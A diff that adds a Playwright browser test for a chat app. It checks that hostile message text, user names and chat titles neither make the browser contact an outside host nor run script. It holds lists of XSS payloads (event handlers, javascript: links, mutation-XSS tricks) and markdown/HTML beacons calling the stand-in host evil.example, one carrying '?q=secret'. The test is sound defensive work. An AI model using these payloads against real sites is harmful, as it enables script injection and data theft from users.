@@ -1,0 +1,194 @@
+"""What a hostile message, name or title does in a real browser: nothing (guarantees D10, D11)."""
+
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect, sync_playwright
+
+from common.ids import new_id
+from tests.browser import chromium
+from tests.stack import Stack
+
+pytestmark = [pytest.mark.stack, pytest.mark.browser]
+
+EVIL = "https://evil.example"
+LOADS = [
+    f"![a]({EVIL}/1.png?q=secret)",
+    f"![a][r]\n\n[r]: {EVIL}/2.png",
+    f"![{EVIL}/3.png][]\n\n[{EVIL}/3.png]: {EVIL}/3.png",
+    "![a](//evil.example/4.png)",
+    "![a](http://evil.example:8080/5.png)",
+    f"[![a]({EVIL}/6.png)]({EVIL}/6)",
+    f"![a](<{EVIL}/7.png>)",
+    f'![a]({EVIL}/8.png "title")',
+    f"- ![a]({EVIL}/9.png)",
+    f"| a |\n|---|\n| ![a]({EVIL}/10.png) |",
+    f"> ![a]({EVIL}/11.png)",
+    f"# ![a]({EVIL}/12.png)",
+    f"[^1]: ![a]({EVIL}/13.png)\n\nfoot[^1]",
+    f'<img src="{EVIL}/14.png">',
+    f'<img srcset="{EVIL}/15.png 2x">',
+    f'<picture><source srcset="{EVIL}/16.png"><img></picture>',
+    f'<video src="{EVIL}/17.mp4" autoplay poster="{EVIL}/17.png"></video>',
+    f'<audio src="{EVIL}/18.mp3" autoplay></audio>',
+    f'<iframe src="{EVIL}/19"></iframe>',
+    f'<object data="{EVIL}/20"></object>',
+    f'<embed src="{EVIL}/21">',
+    f'<link rel="stylesheet" href="{EVIL}/22.css">',
+    f'<link rel="prefetch" href="{EVIL}/23">',
+    '<link rel="dns-prefetch" href="//evil.example">',
+    f"<style>@import url({EVIL}/25.css)</style>",
+    f'<div style="background:url({EVIL}/26.png)">x</div>',
+    f'<body background="{EVIL}/27.png">',
+    f'<table background="{EVIL}/28.png"><tr><td>x</td></tr></table>',
+    f'<svg><image href="{EVIL}/29.png"/></svg>',
+    f'<svg><use href="{EVIL}/30.svg#x"/></svg>',
+    f'<input type="image" src="{EVIL}/31.png">',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}/32">',
+    f'<base href="{EVIL}/">',
+    f'<form action="{EVIL}/34"><button autofocus>x</button></form>',
+    f'<script src="{EVIL}/35.js"></script>',
+    f"```mermaid\ngraph TD; A[<img src='{EVIL}/36.png'>]-->B\n```",
+    f"$$\\includegraphics{{{EVIL}/37.png}}$$ \\href{{{EVIL}/37}}{{x}}",
+    f"{EVIL}/38 and www.evil.example/38 and <{EVIL}/38>",
+    f'<a href="{EVIL}/39" ping="{EVIL}/39">x</a>',
+    f"![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/40.png'/></svg>)",
+]
+SCRIPTS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></mtext><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "<!--><script>alert(1)</script>-->",
+    "<xss onpointerenter=alert(1) style=position:fixed;inset:0>x</xss>",
+]
+NAME = "<img src=x onerror=alert(1)>"
+
+SETUP = """
+async ([texts, name, ids]) => {
+  const token = () => document.cookie.match(/csrftoken=([^;]+)/)[1]
+  const post = async (path, body) => {
+    const headers = {'Content-Type': 'application/json', 'X-CSRFToken': token()}
+    const answer = await fetch('/api/v1' + path, {method: 'POST', headers, body: JSON.stringify(body)})
+    if (!answer.ok) throw new Error(path + ' ' + answer.status + ' ' + await answer.text())
+    return answer.json()
+  }
+  const workspace = await post('/workspaces', {name})
+  const agent = await post(`/workspaces/${workspace.id}/agents`, {name, prompt: texts[0], open_chat: true})
+  const room = {title: name, member_ids: [agent.actor.id]}
+  const chat = (await post(`/workspaces/${workspace.id}/chats`, room)).chat.id
+  for (const [index, text] of texts.entries())
+    await post(`/chats/${chat}/messages`, {id: ids[index], text, wake: 'nobody'})
+  return `/w/${workspace.handle}/c/${chat}`
+}
+"""
+
+
+class Watched:
+    """A page, and what it did that it must not do."""
+
+    def __init__(self, browser: Browser, stack: Stack) -> None:
+        self.stack = stack
+        self.context = browser.new_context(locale="en-US", viewport={"width": 1280, "height": 900})
+        self.page: Page = self.context.new_page()
+        self.outside: list[str] = []
+        self.alerts: list[str] = []
+        self.reports: list[str] = []
+        self.context.on("request", lambda request: self._asked(request.url))
+        self.page.on("dialog", self._dialog)
+        self.page.on(
+            "console", lambda said: self.reports.append(said.text) if "Content Security" in said.text else None
+        )
+
+    def _asked(self, url: str) -> None:
+        if not url.startswith((self.stack.address, self.stack.address.replace("http", "ws", 1), "data:", "blob:")):
+            self.outside.append(url)
+
+    def _dialog(self, dialog: Any) -> None:
+        self.alerts.append(dialog.message)
+        dialog.dismiss()
+
+    def enter(self) -> None:
+        """Sign up under a hostile name."""
+        page = self.page
+        page.goto(self.stack.address + "/sign-up")
+        page.get_by_label("Your name").fill(NAME)
+        page.get_by_label("Email").fill(f"eve-{new_id()}@example.org")
+        page.get_by_label("Password").fill("a long enough password")
+        page.get_by_role("button", name="Sign up").click()
+        expect(page.get_by_label("Name of the workspace")).to_be_visible(timeout=20_000)
+
+    def show(self, texts: list[str]) -> None:
+        """A chat under a hostile title, with an agent of a hostile name, where these texts were said."""
+        ids = [str(new_id()) for _ in texts]
+        path = self.page.evaluate(SETUP, [texts, NAME, ids])
+        self.page.goto(self.stack.address + path)
+        log = self.page.get_by_role("log")
+        expect(log.locator(f"[data-message='{ids[-1]}'] .prose > *").first).to_be_visible(timeout=20_000)
+        self.page.get_by_role("button", name="Workshop").click()
+        expect(self.page.get_by_role("complementary", name="Workshop").get_by_role("textbox")).to_be_visible()
+        while self.page.locator(".older").count():
+            log.evaluate("log => { log.scrollTop = 0 }")
+            self.page.wait_for_timeout(200)
+        log.evaluate("log => { log.scrollTop = 0 }")
+        self.page.wait_for_timeout(500)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(**chromium().launch_options)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def watched(browser: Browser, stack: Stack) -> Iterator[Watched]:
+    watched = Watched(browser, stack)
+    watched.enter()
+    yield watched
+    watched.context.close()
+
+
+def test_D10_no_message_makes_the_browser_ask_another_host(watched: Watched) -> None:
+    watched.show(LOADS)
+    assert watched.outside == []
+    assert watched.reports == []
+    # And it would have been seen.
+    watched.page.evaluate(f"new Image().src = '{EVIL}/control.png'")
+    watched.page.wait_for_timeout(300)
+    assert watched.reports != []
+
+
+def test_D11_no_text_runs_as_script_in_messages_names_and_titles(watched: Watched) -> None:
+    watched.show(SCRIPTS)
+    assert watched.alerts == []
+    assert watched.reports == []
+    assert watched.outside == []
+    assert watched.page.locator("script").count() == 1
+    watched.page.evaluate("setTimeout(() => alert('control'))")
+    watched.page.wait_for_timeout(300)
+    assert watched.alerts == ["control"]
